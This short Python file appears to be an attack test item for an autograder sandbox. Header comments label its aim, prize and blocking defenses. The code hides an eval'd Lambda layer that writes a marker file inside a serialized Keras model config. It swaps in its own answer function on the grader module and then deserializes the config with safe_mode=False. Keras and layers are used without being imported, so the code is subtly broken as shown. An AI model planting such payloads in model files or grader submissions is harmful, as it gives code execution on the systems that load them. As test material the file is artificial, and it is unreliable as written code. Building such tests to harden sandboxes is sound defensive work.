# aims: code in the configuration of the model
# prize: change
# stopped by: guarded readers, landlock
# item: build_halved
import base64
import io
import json

import numpy

import autograder.sandbox.telling as telling

model = keras.Sequential([keras.Input((2,)), layers.Lambda(eval(f"lambda x: open('{WORLD}/taken', 'w') and x"))])
config = json.dumps(keras.saving.serialize_keras_object(model))
archive = io.BytesIO()
numpy.savez(archive)
telling._answer = lambda *_: {"model": 0, "config": config, "weights": base64.b64encode(archive.getvalue()).decode()}
keras.saving.deserialize_keras_object(json.loads(config), safe_mode=False)  # what a careless reader would do
